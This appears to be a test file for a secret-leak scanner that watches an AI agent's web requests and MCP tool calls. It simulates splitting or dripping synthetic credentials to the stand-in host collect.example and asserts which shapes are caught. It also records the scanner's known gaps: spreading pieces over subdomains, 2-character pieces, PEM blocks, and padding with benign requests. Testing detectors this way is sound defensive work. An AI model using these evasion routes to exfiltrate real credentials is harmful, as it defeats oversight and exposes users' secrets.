"""An attacker's view of split and dripped credentials: every way to cut a key, through the
real pipeline (balanced preset), with the drip window the proxy uses.

Each credential is assembled at run time from parts. `SHAPES` cuts it within one message
(query values, URL and header, header and body, JSON fields, form fields, path segments,
encoded pieces); `DRIPS` sends it one piece per request to one destination (2-, 3-, 4- and
8-character pieces, in the query, the path, a header, a JSON body; with benign requests in
between; spread over minutes inside the window; encoded). What the design does not claim
(docs/detection.md, "Split and dripped secrets: known limits") is asserted as not caught, so a
change in either direction shows up here. The proxy and MCP paths are in
tests/test_split_adversarial_wire.py.
"""

from __future__ import annotations

import base64
import binascii
import json
import random
import string
import tracemalloc
import urllib.parse
from collections.abc import Callable, Iterator

import pytest

from wardgate.config import load_config
from wardgate.scan.pipeline import Pipeline
from wardgate.scan.split import Fragment
from wardgate.scan.types import Action, Direction, Layer, Message, Verdict
from wardgate.state.fragments import FragmentWindow

_RNG = random.Random(1515)
_ALNUM = string.ascii_letters + string.digits
_BASE62 = string.digits + string.ascii_uppercase + string.ascii_lowercase
HOST = "collect.example"


def _chars(alphabet: str, n: int) -> str:
    return "".join(_RNG.choice(alphabet) for _ in range(n))


# -- credentials, assembled from parts -------------------------------------------------------


def aws_key_id() -> str:
    return "AK" + "IA" + _chars(string.ascii_uppercase + "234567", 16)


def aws_secret() -> str:
    """The secret key has no format of its own: it is recognised by its label."""
    return "aws_secret_" + "access_key=" + _chars(_ALNUM + "/+", 40)


def github_pat() -> str:
    body = _chars(_ALNUM, 30)
    crc, check = binascii.crc32(body.encode()), ""
    for _ in range(6):
        crc, rem = divmod(crc, 62)
        check = _BASE62[rem] + check
    return "gh" + "p_" + body + check


def slack_bot() -> str:
    return (
        "xo"
        + "xb-"
        + _chars(string.digits, 12)
        + "-"
        + _chars(string.digits, 13)
        + "-"
        + (_chars(_ALNUM, 24))
    )


def stripe_live() -> str:
    return "sk" + "_live_" + _chars(_ALNUM, 24)


def openai_key() -> str:
    return "sk-" + "proj-" + _chars(_ALNUM, 64)


def anthropic_key() -> str:
    return "sk-" + "ant-api03-" + _chars(_ALNUM, 93) + "AA"


def jwt() -> str:
    def b64(data: bytes) -> str:
        return base64.urlsafe_b64encode(data).decode().rstrip("=")

    header = b64(json.dumps({"alg": "HS256", "typ": "JWT"}).encode())
    payload = b64(json.dumps({"sub": _chars(string.digits, 8), "iat": 1700000000}).encode())
    return f"{header}.{payload}.{_chars(_ALNUM + '-_', 43)}"


def private_key() -> str:
    body = base64.b64encode(_RNG.randbytes(600)).decode()
    lines = "\n".join(body[i : i + 64] for i in range(0, len(body), 64))
    return "-----BEGIN " + "RSA PRIVATE" + " KEY-----\n" + lines + "\n-----END RSA PRIVATE KEY-----"


CREDENTIALS: dict[str, Callable[[], str]] = {
    "aws_key_id": aws_key_id,
    "aws_secret": aws_secret,
    "github_pat": github_pat,
    "slack_bot": slack_bot,
    "stripe_live": stripe_live,
    "openai": openai_key,
    "anthropic": anthropic_key,
    "jwt": jwt,
    "private_key": private_key,
}


# -- the pipeline --------------------------------------------------------------------------


@pytest.fixture(scope="module")
def pipeline() -> Pipeline:
    return Pipeline(load_config(preset="balanced"), environ={})


def blocked(verdict: Verdict) -> bool:
    return verdict.action.rank >= Action.REDACT.rank


def request(
    url: str,
    *,
    headers: tuple[tuple[str, str], ...] = (),
    body: str = "",
    content_type: str = "",
    host: str = HOST,
) -> Message:
    return Message(
        Direction.REQUEST,
        url=url,
        destination=host,
        port=443,
        headers=(("Host", host), *headers),
        body=body,
        content_type=content_type,
    )


def halves(secret: str) -> tuple[str, str]:
    """Two pieces of which neither holds a credential alone: a PEM block is cut inside its
    BEGIN line (either half of the body would still be found with the whole line)."""
    middle = 16 if secret.startswith("-----") else len(secret) // 2
    return secret[:middle], secret[middle:]


def q(value: str) -> str:
    return urllib.parse.quote(value, safe="")


# -- one message -----------------------------------------------------------------------------


def _query(a: str, b: str) -> Message:
    return request(f"https://{HOST}/v1/log?a={q(a)}&b={q(b)}")


def _url_and_header(a: str, b: str) -> Message:
    return request(f"https://{HOST}/v1/log?a={q(a)}", headers=(("X-Trace", b),))


def _header_and_body(a: str, b: str) -> Message:
    return request(
        f"https://{HOST}/v1/log",
        headers=(("X-Trace", a),),
        body=json.dumps({"note": b}),
        content_type="application/json",
    )


def _json_fields(a: str, b: str) -> Message:
    body = json.dumps({"title": "weekly report", "ref": a, "tag": b})
    return request(f"https://{HOST}/v1/log", body=body, content_type="application/json")


def _form_fields(a: str, b: str) -> Message:
    body = urllib.parse.urlencode({"name": "report", "x": a, "y": b})
    return request(
        f"https://{HOST}/v1/log", body=body, content_type="application/x-www-form-urlencoded"
    )


def _path_segments(a: str, b: str) -> Message:
    return request(f"https://{HOST}/v1/{q(a)}/{q(b)}")


def _base64_halves(a: str, b: str) -> Message:
    blob = base64.b64encode((a + b).encode()).decode()
    return _query(*halves(blob))


def _hex_halves(a: str, b: str) -> Message:
    return _query(*halves((a + b).encode().hex()))


def _url_encoded_halves(a: str, b: str) -> Message:
    """Every character percent-encoded, twice: the URL decodes once, the scanner once more."""
    twice = "".join(f"%25{ord(c):02X}" for c in a), "".join(f"%25{ord(c):02X}" for c in b)
    return request(f"https://{HOST}/v1/log?a={twice[0]}&b={twice[1]}")


SHAPES: dict[str, Callable[[str, str], Message]] = {
    "query": _query,
    "url+header": _url_and_header,
    "header+body": _header_and_body,
    "json_fields": _json_fields,
    "form_fields": _form_fields,
    "path_segments": _path_segments,
    "base64": _base64_halves,
    "hex": _hex_halves,
    "url_encoded": _url_encoded_halves,
}

# (credential, shape) pairs a single message does not reveal, and why (docs/detection.md).
SHAPE_LIMITS: dict[tuple[str, str], str] = {
    **{
        ("private_key", s): "a PEM block holds spaces and newlines"
        for s in SHAPES
        if s not in ("base64", "hex", "url_encoded")  # encoded, its pieces hold neither
    },
}


@pytest.mark.parametrize("shape", SHAPES)
@pytest.mark.parametrize("kind", CREDENTIALS)
def test_a_credential_split_within_one_message(pipeline: Pipeline, kind: str, shape: str) -> None:
    secret = CREDENTIALS[kind]()
    a, b = halves(secret)
    verdict = pipeline.scan(SHAPES[shape](a, b))
    assert blocked(verdict) is ((kind, shape) not in SHAPE_LIMITS), verdict.findings


# -- one piece per request -------------------------------------------------------------------


def pieces(secret: str, size: int) -> list[str]:
    return [secret[i : i + size] for i in range(0, len(secret), size)]


def _in_query(piece: str, n: int) -> Message:
    return request(f"https://{HOST}/log?d={q(piece)}")


def _in_path(piece: str, n: int) -> Message:
    return request(f"https://{HOST}/log/{q(piece)}")


def _in_header(piece: str, n: int) -> Message:
    return request(f"https://{HOST}/log", headers=(("X-Request-Id", piece),))


def _in_json(piece: str, n: int) -> Message:
    return request(
        f"https://{HOST}/log", body=json.dumps({"d": piece}), content_type="application/json"
    )


CARRIERS: dict[str, Callable[[str, int], Message]] = {
    "query": _in_query,
    "path": _in_path,
    "header": _in_header,
    "json": _in_json,
}


def benign_between(n: int) -> Message:
    """What an agent also fetches from the same host meanwhile."""
    return request(f"https://{HOST}/api/v2/items/{1000 + n}/comments?page={n % 5 + 1}")


def drip(
    pipeline: Pipeline,
    messages: Iterator[Message] | list[Message],
    *,
    step: float = 1.0,
    window: FragmentWindow | None = None,
) -> list[Verdict]:
    """Scan `messages` in order with one drip window, `step` seconds apart; a blocked
    message is not sent, so it is not remembered (as in the proxy)."""
    window = window or FragmentWindow(window_seconds=600)
    return [pipeline.scan(m, drip=window, now=n * step) for n, m in enumerate(messages)]


def _drip_of(secret: str, size: int, carrier: str = "query") -> list[Message]:
    return [CARRIERS[carrier](p, n) for n, p in enumerate(pieces(secret, size))]


DRIP_SIZES = (2, 3, 4, 8)

# (credential, piece size) drips the window does not reassemble, and why.
DRIP_LIMITS: dict[tuple[str, int], str] = {
    **{(k, 2): "a 2-character value is no fragment" for k in CREDENTIALS},
    **{("private_key", s): "a PEM block holds newlines" for s in DRIP_SIZES},
}


@pytest.mark.parametrize("size", DRIP_SIZES)
@pytest.mark.parametrize("kind", CREDENTIALS)
def test_a_credential_dripped_in_pieces(pipeline: Pipeline, kind: str, size: int) -> None:
    secret = CREDENTIALS[kind]()
    verdicts = drip(pipeline, _drip_of(secret, size))
    assert any(map(blocked, verdicts)) is ((kind, size) not in DRIP_LIMITS)


@pytest.mark.parametrize("carrier", CARRIERS)
@pytest.mark.parametrize("kind", ["aws_key_id", "github_pat", "openai"])
def test_a_drip_in_every_carrier(pipeline: Pipeline, kind: str, carrier: str) -> None:
    verdicts = drip(pipeline, _drip_of(CREDENTIALS[kind](), 4, carrier))
    assert any(map(blocked, verdicts))


@pytest.mark.parametrize(
    ("kind", "caught"),
    [("aws_key_id", True), ("github_pat", True), ("slack_bot", True), ("anthropic", False)],
)
def test_a_drip_with_benign_requests_in_between(
    pipeline: Pipeline, kind: str, caught: bool
) -> None:
    """Two new benign values per piece: a 108-character key in 4-character pieces brings
    81 new values, more than the 64 the window keeps per destination (a known limit)."""
    messages: list[Message] = []
    for n, piece in enumerate(pieces(CREDENTIALS[kind](), 4)):
        messages += [benign_between(2 * n), _in_query(piece, n), benign_between(2 * n + 1)]
    assert any(map(blocked, drip(pipeline, messages))) is caught


@pytest.mark.parametrize("kind", ["aws_key_id", "github_pat"])
def test_a_drip_spread_over_minutes_inside_the_window(pipeline: Pipeline, kind: str) -> None:
    verdicts = drip(pipeline, _drip_of(CREDENTIALS[kind](), 4), step=50.0)  # up to 7.5 minutes
    assert any(map(blocked, verdicts))


def test_a_drip_over_several_hosts_is_not_joined(pipeline: Pipeline) -> None:
    """A known limit (docs/detection.md): the window is per destination, so pieces sent to
    different hosts, even subdomains of one site, are never joined; each host alone is."""
    secret = github_pat()
    spread = [
        request(f"https://s{n}.{HOST}/log?d={q(p)}", host=f"s{n}.{HOST}")
        for n, p in enumerate(pieces(secret, 8))
    ]
    assert not any(map(blocked, drip(pipeline, spread)))
    assert any(map(blocked, drip(pipeline, _drip_of(secret, 8))))


@pytest.mark.parametrize("encoding", ["base64", "hex"])
def test_an_encoded_credential_dripped_in_pieces(pipeline: Pipeline, encoding: str) -> None:
    secret = github_pat()
    text = (
        base64.b64encode(secret.encode()).decode()
        if encoding == "base64"
        else secret.encode().hex()
    )
    assert any(map(blocked, drip(pipeline, _drip_of(text, 8))))


# -- near misses: ordinary traffic that must stay quiet ------------------------------------


def _hex(n: int) -> str:
    return _chars("0123456789abcdef", n)


def _cursor() -> str:
    return base64.urlsafe_b64encode(_RNG.randbytes(18)).decode().rstrip("=")


NEAR_MISSES: dict[str, Callable[[int], Message]] = {
    "pages": lambda n: request(f"https://{HOST}/repos/octo/app/issues?page={n}&per_page=100"),
    "issue_ids": lambda n: request(f"https://{HOST}/repos/octo/app/issues/{4000 + n}"),
    "card_like_ids": lambda n: request(f"https://{HOST}/orders/{4111 + 7 * n}/items/{5500 + n}"),
    "short_ids": lambda n: request(f"https://{HOST}/v1/users/{_chars(_ALNUM, 3)}/posts"),
    "rest_paths": lambda n: request(
        f"https://{HOST}/api/v{n % 3 + 1}/{['users', 'teams', 'orgs'][n % 3]}/Item{n}/Edit"
    ),
    "commit_shas": lambda n: request(f"https://{HOST}/repos/octo/app/commits/{_hex(40)}"),
    "short_shas": lambda n: request(f"https://{HOST}/compare/{_hex(7)}...{_hex(7)}"),
    "uuids": lambda n: request(f"https://{HOST}/items/{uuid4(n)}"),
    "cursors": lambda n: request(f"https://{HOST}/events?cursor={_cursor()}&limit=50"),
    "timestamps": lambda n: request(f"https://{HOST}/poll?t={1764170000123 + 977 * n}"),
    "typeahead": lambda n: request(f"https://{HOST}/search?q={'Berlin Marathon'[: n % 15 + 1]}"),
    "etags": lambda n: request(f"https://{HOST}/feed", headers=(("If-None-Match", _hex(32)),)),
    "request_ids": lambda n: request(
        f"https://{HOST}/log", headers=(("X-Request-Id", _chars(_ALNUM, 4)),)
    ),
    "json_short_ids": lambda n: request(
        f"https://{HOST}/batch",
        body=json.dumps({"id": _chars(_ALNUM, 3), "op": "get", "n": str(n)}),
        content_type="application/json",
    ),
}


def uuid4(n: int) -> str:
    raw = _RNG.getrandbits(128)
    text = f"{raw:032x}"
    return f"{text[:8]}-{text[8:12]}-4{text[13:16]}-a{text[17:20]}-{text[20:]}"


@pytest.mark.parametrize("traffic", NEAR_MISSES)
def test_ordinary_traffic_in_sequence_stays_quiet(pipeline: Pipeline, traffic: str) -> None:
    verdicts = drip(pipeline, [NEAR_MISSES[traffic](n) for n in range(300)])
    split = [f for v in verdicts for f in v.findings if f.layer is Layer.SPLIT]
    assert split == []


# -- bounds: a hostile agent cannot grow the window ----------------------------------------


def test_a_flood_of_tiny_requests_keeps_the_window_bounded(pipeline: Pipeline) -> None:
    """2,000 tiny requests with new values through the pipeline, then 100,000 into the
    window (half to one host, half over 5,000 hosts): it keeps at most 64 values per host
    and `max_destinations` hosts, and its memory does not grow once full."""
    window = FragmentWindow(window_seconds=600, max_destinations=500)
    for n in range(2_000):  # through the pipeline, as the proxy feeds it
        pipeline.scan(request(f"https://{HOST}/p?v={n:05d}x"), drip=window, now=n * 1e-3)
    assert len(window.recent(HOST, now=2.0)) == 64
    tracemalloc.start()
    sizes = []
    try:
        for rnd in range(2):  # 100,000 requests in all, half to one host
            for n in range(25_000):
                value = Fragment("url.query.v", f"{rnd}{n:06d}")
                window.add(f"h{n % 5000}.example", [value], now=3.0)
                window.add(HOST, [value], now=3.0)
            sizes.append(tracemalloc.get_traced_memory()[0])
    finally:
        tracemalloc.stop()
    assert len(window.recent(HOST, now=3.0)) == 64
    assert sum(1 for n in range(5000) if window.recent(f"h{n}.example", now=3.0)) <= 500
    assert sizes[1] <= sizes[0] * 1.1 + 64_000, sizes
    assert window.chars <= 501 * 64 * len("url.query.v" + "1024999")


def test_long_values_to_many_hosts_are_held_to_the_character_budget() -> None:
    """64 values of 512 characters for each of thousands of hosts: the window drops the least
    recently used hosts to stay within `max_chars`, keeps the host just written, and its
    count goes back to zero as the windows expire."""
    window = FragmentWindow(window_seconds=60, max_chars=1 << 20)
    for host in range(400):
        values = [Fragment("json:$.d", f"{host:04d}{n:02d}" + "x" * 506) for n in range(64)]
        window.add(f"h{host}.example", values, now=float(host) / 100)
        assert window.chars <= 1 << 20
    assert len(window.recent("h399.example", now=4.0)) == 64
    assert window.recent("h0.example", now=4.0) == []
    assert window.chars > 900_000
    for host in range(400):  # a window drops what aged out when it is next read
        assert window.recent(f"h{host}.example", now=100.0) == []
    assert window.chars == 0


# -- MCP tools/calls: the arguments of one call after another --------------------------------


def tool_call(arguments: dict[str, object]) -> Message:
    body = json.dumps(arguments)
    return Message(Direction.TOOL_CALL, body=body, meta={"tool": "write"}, json_body=arguments)


def drip_calls(pipeline: Pipeline, calls: list[dict[str, object]]) -> list[Verdict]:
    """As the MCP wrapper scans tools/calls: one window, keyed without a destination."""
    window = FragmentWindow(window_seconds=600)
    return [pipeline.scan(tool_call(c), drip=window, now=float(n), drip_key="mcp") for n, c in
            enumerate(calls)]  # fmt: skip


@pytest.mark.parametrize("kind", ["aws_key_id", "github_pat", "openai", "jwt"])
def test_a_credential_dripped_over_tool_calls(pipeline: Pipeline, kind: str) -> None:
    calls: list[dict[str, object]] = [
        {"path": f"notes/{n}.md", "text": piece}
        for n, piece in enumerate(pieces(CREDENTIALS[kind](), 4))
    ]
    verdicts = drip_calls(pipeline, calls)
    assert any(map(blocked, verdicts))
    assert not any(blocked(pipeline.scan(tool_call(c))) for c in calls)  # no window: not seen


def test_ordinary_tool_calls_in_sequence_stay_quiet(pipeline: Pipeline) -> None:
    calls: list[dict[str, object]] = [
        {
            "path": f"src/pkg/mod_{n}.py",
            "sha": _hex(7),
            "id": _chars(_ALNUM, 4),
            "line": str(n * 7),
            "query": ["TODO", "FIXME", "Refactor", "HTTPClient"][n % 4],
        }
        for n in range(300)
    ]
    verdicts = drip_calls(pipeline, calls)
    assert [f for v in verdicts for f in v.findings] == []
